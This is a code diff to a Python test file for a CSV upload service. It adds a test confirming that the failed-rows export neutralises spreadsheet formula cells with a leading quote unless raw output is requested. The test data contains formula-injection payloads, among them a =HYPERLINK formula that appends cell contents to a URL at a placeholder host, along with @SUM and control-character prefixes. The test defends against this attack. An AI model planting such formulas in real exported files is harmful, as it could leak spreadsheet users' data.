@@ -9,13 +9,11 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import httpx
 import psycopg
-import pytest
 from fastapi.testclient import TestClient
 
 from producer.app import create_app
@@ -30,12 +28,6 @@ from worker.ledger import Ledger, RowOutcome
 
 def upload(client: TestClient, data: bytes, **headers: str):
     return client.post("/upload", files={"file": ("rows.csv", data, "text/csv")}, headers=headers)
-
-
-@pytest.fixture
-def client(queue_name: str) -> Iterator[TestClient]:
-    with TestClient(create_app(Settings(queue_name=queue_name))) as client:
-        yield client
 
 
 def test_an_upload_drained_by_a_worker_is_done_with_every_row_counted(client: TestClient, queue_name: str,
@@ -205,3 +197,28 @@ def test_outcomes_keep_quotes_backslashes_braces_and_unicode_exactly(client: Tes
     assert (status["state"], status["done"], status["failed"]) == ("done", 1, 1)
     assert list(csv.reader(io.StringIO(client.get(status["failed_url"]).text)))[1:] == [
         [awkward, "NULL", "no", "2", "3", f"ValueError: {awkward}"]]
+
+
+def test_failed_cells_a_spreadsheet_would_run_start_with_a_quote_unless_raw(client: TestClient,
+                                                                            ledger_database: str) -> None:
+    response = client.post("/upload", files={"file": ("rows.csv", b"id,=name,poison\n1,a,no\n2,b,no\n", "text/csv")})
+    upload_id = response.json()["upload_id"]
+    formulas = [{"id": '=HYPERLINK("http://x/?"&A2)', "=name": "-2", "poison": "\tx"},
+                {"id": "+1", "=name": "@SUM(A1)", "poison": "\r=1;=2"}]
+    ledger = Ledger(ledger_database, timeout_s=5)
+    ledger.open()
+    try:
+        ledger.record([RowOutcome(upload_id, row, 3, error="ValueError: =1+2", data=data)
+                       for row, data in enumerate(formulas, start=1)], redelivered=collections.Counter())
+    finally:
+        ledger.close()
+
+    spreadsheet = client.get(f"/uploads/{upload_id}/failed")
+    assert spreadsheet.text == (
+        '"id","\'=name","poison","_row","_attempts","_error"\n'
+        '"\'=HYPERLINK(""http://x/?""&A2)","\'-2","\'\tx","1","3","ValueError: =1+2"\n'
+        '"\'+1","\'@SUM(A1)","\'\r=1;=2","2","3","ValueError: =1+2"\n')
+    raw = client.get(f"/uploads/{upload_id}/failed", params={"raw": "1"})
+    assert list(csv.reader(io.StringIO(raw.text, newline=""))) == [
+        ["id", "=name", "poison", "_row", "_attempts", "_error"],
+        *([*data.values(), str(row), "3", "ValueError: =1+2"] for row, data in enumerate(formulas, start=1))]
